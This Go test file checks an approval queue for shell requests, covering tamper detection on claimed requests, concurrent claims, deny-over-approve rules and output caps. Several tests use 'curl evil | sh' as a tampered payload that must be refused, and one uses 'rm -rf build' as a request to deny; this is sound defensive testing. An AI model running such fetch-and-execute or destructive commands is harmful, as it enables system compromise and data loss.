package queue

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"strings"
	"sync"
	"testing"
)

func TestClaimHoldsWhatWasRead(t *testing.T) {
	cases := []struct {
		name   string
		change func(t *testing.T, q *Queue, id string)
	}{
		{"rewritten in place", func(t *testing.T, q *Queue, id string) {
			f, err := os.OpenFile(q.path(StateClaimed, id), os.O_WRONLY|os.O_TRUNC, 0)
			mustOK(t, err)
			f.Write(validRaw(t, id, "curl evil | sh"))
			f.Close()
		}},
		{"replaced by rename", func(t *testing.T, q *Queue, id string) {
			p := writeRaw(t, q.f.Tmp(), "swap", validRaw(t, id, "curl evil | sh"))
			mustOK(t, os.Rename(p, q.path(StateClaimed, id)))
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			q := testQueue(t)
			id := submit(t, q, shellReq("echo safe", "s"))
			c, err := q.Claim(id)
			mustOK(t, err)
			raw := bytes.Clone(c.Raw)
			tc.change(t, q, id)
			if c.Request.Shell.Script != "echo safe" || !bytes.Equal(c.Raw, raw) ||
				c.Hash != c.Request.ComputeHash() {
				t.Fatalf("claim changed: %q", c.Request.Shell.Script)
			}
			approve(t, c, "safe")
			res, err := q.Result(id)
			mustOK(t, err)
			if res.RequestHash != shellHash(t, "echo safe") || res.Summary != "echo safe" {
				t.Fatalf("result = %+v", res)
			}
		})
	}
}

func shellHash(t *testing.T, script string) string {
	t.Helper()
	r := shellReq(script, "")
	return r.ComputeHash()
}

func TestClaimShownRefusesChangedRequest(t *testing.T) {
	q := testQueue(t)
	id := submit(t, q, shellReq("echo safe", "s"))
	shown, _ := q.Pending()
	writeRaw(t, q.f.Pending(), id+".json", validRaw(t, id, "curl evil | sh"))
	if _, err := q.ClaimShown(id, shown[0].Hash); !errors.Is(err, ErrBadFile) {
		t.Fatalf("claim: %v", err)
	}
	if n := names(t, q.f.Quarantine()); len(n) != 1 {
		t.Fatalf("quarantine = %v", n)
	}
	if n := names(t, q.f.Claimed()); len(n) != 0 {
		t.Fatalf("claimed = %v", n)
	}
}

func TestExactlyOneClaimWins(t *testing.T) {
	q := testQueue(t)
	id := submit(t, q, shellReq("echo", "s"))
	others := []*Queue{q, openIn(t, q.f.Root), openIn(t, q.f.Root), openIn(t, q.f.Root)}
	var mu sync.Mutex
	var won []*Claim // guarded by mu
	var wg sync.WaitGroup
	for _, o := range others {
		for range 4 {
			wg.Go(func() {
				c, err := o.Claim(id)
				if err == nil {
					mu.Lock()
					won = append(won, c)
					mu.Unlock()
				} else if !errors.Is(err, ErrAlreadyClaimed) {
					t.Errorf("claim: %v", err)
				}
			})
		}
	}
	wg.Wait()
	if len(won) != 1 {
		t.Fatalf("%d claims won", len(won))
	}
	approve(t, won[0], "")
}

func TestDenyWinsOverApproval(t *testing.T) {
	bob := Approver{User: "bob@h", Surface: "cli"}
	t.Run("deny before begin", func(t *testing.T) {
		q := testQueue(t)
		id := submit(t, q, shellReq("rm -rf build", "s"))
		c, err := q.Claim(id)
		mustOK(t, err)
		mustOK(t, openIn(t, q.f.Root).Deny(id, bob, "not now"))
		if err := c.Begin(); !errors.Is(err, ErrDenied) {
			t.Fatalf("begin: %v", err)
		}
		res, err := q.Result(id)
		if err != nil || res.Decision != Denied || res.Approver != bob || res.Reason != "not now" {
			t.Fatalf("result = %+v, %v", res, err)
		}
		if err := c.Complete(&Result{Decision: Denied}); !errors.Is(err, ErrClaimClosed) {
			t.Fatalf("complete after deny: %v", err)
		}
	})
	t.Run("deny after begin is too late", func(t *testing.T) {
		q := testQueue(t)
		id := submit(t, q, shellReq("make", "s"))
		c, err := q.Claim(id)
		mustOK(t, err)
		mustOK(t, c.Begin())
		if err := q.Deny(id, bob, ""); !errors.Is(err, ErrAlreadyRunning) {
			t.Fatalf("deny: %v", err)
		}
		code := 0
		mustOK(t, c.Complete(&Result{Decision: Approved, Approver: bob, ExitCode: &code}))
		if n := names(t, q.f.Claimed()); len(n) != 0 {
			t.Fatalf("claimed = %v", n)
		}
	})
	t.Run("deny of pending", func(t *testing.T) {
		q := testQueue(t)
		id := submit(t, q, shellReq("make", "s"))
		mustOK(t, q.Deny(id, bob, "no"))
		if res, err := q.Result(id); err != nil || res.Decision != Denied {
			t.Fatalf("result = %+v, %v", res, err)
		}
		if err := q.Deny(id, bob, "no"); !errors.Is(err, ErrAlreadyClaimed) {
			t.Fatalf("second deny: %v", err)
		}
	})
	t.Run("deny while skipped", func(t *testing.T) {
		q := testQueue(t)
		id := submit(t, q, shellReq("make", "s"))
		c, err := q.Claim(id)
		mustOK(t, err)
		mustOK(t, q.Deny(id, bob, "no"))
		mustOK(t, c.Release())
		if res, err := q.Result(id); err != nil || res.Decision != Denied {
			t.Fatalf("result = %+v, %v", res, err)
		}
	})
}

func TestRelease(t *testing.T) {
	q := testQueue(t)
	id := submit(t, q, shellReq("make", "s"))
	c, err := q.Claim(id)
	mustOK(t, err)
	mustOK(t, c.Release())
	if err := c.Release(); !errors.Is(err, ErrClaimClosed) {
		t.Fatalf("second release: %v", err)
	}
	c2, err := q.Claim(id)
	mustOK(t, err)
	mustOK(t, c2.Begin())
	if err := c2.Release(); !errors.Is(err, ErrAlreadyRunning) {
		t.Fatalf("release after begin: %v", err)
	}
}

func TestApprovedNeedsBegin(t *testing.T) {
	q := testQueue(t)
	id := submit(t, q, shellReq("make", "s"))
	c, err := q.Claim(id)
	mustOK(t, err)
	err = c.Complete(&Result{Decision: Approved, Approver: Approver{User: "a@h", Surface: "watch"}})
	if !errors.Is(err, ErrInvalid) {
		t.Fatalf("complete: %v", err)
	}
	mustOK(t, c.Complete(&Result{Decision: Denied, Approver: Approver{User: "a@h", Surface: "watch"}}))
}

func TestCompleteCapsFreeText(t *testing.T) {
	q := testQueue(t)
	id := submit(t, q, shellReq("make", "s"))
	c, err := q.Claim(id)
	mustOK(t, err)
	mustOK(t, c.Begin())
	code := 1
	mustOK(t, c.Complete(&Result{Decision: Failed, Approver: Approver{User: "a@h", Surface: "watch"},
		Reason: strings.Repeat("\x00", MaxJustification), ExitCode: &code,
		Stdout: strings.Repeat("o", 3*DefaultOutputCap), Stderr: "e"}))
	res, err := q.Result(id)
	mustOK(t, err)
	if len(res.Reason) > MaxJustification || !res.StdoutTruncated || len(res.Stdout) > DefaultOutputCap ||
		res.StderrTruncated || res.Stderr != "e" {
		t.Fatalf("result: reason %d bytes, stdout %d bytes truncated=%v", len(res.Reason), len(res.Stdout), res.StdoutTruncated)
	}
}

func TestPendingReadsBoundedFiles(t *testing.T) {
	q := testQueue(t, WithMaxPending(1))
	for i := range q.scanLimit() + 5 {
		id := NewID()
		writeRaw(t, q.f.Pending(), id+".json", validRaw(t, id, fmt.Sprint("echo ", i)))
	}
	reqs, problems := q.Pending()
	if len(reqs) != q.scanLimit() || len(problems) != 1 {
		t.Fatalf("%d requests, problems %v", len(reqs), problems)
	}
}
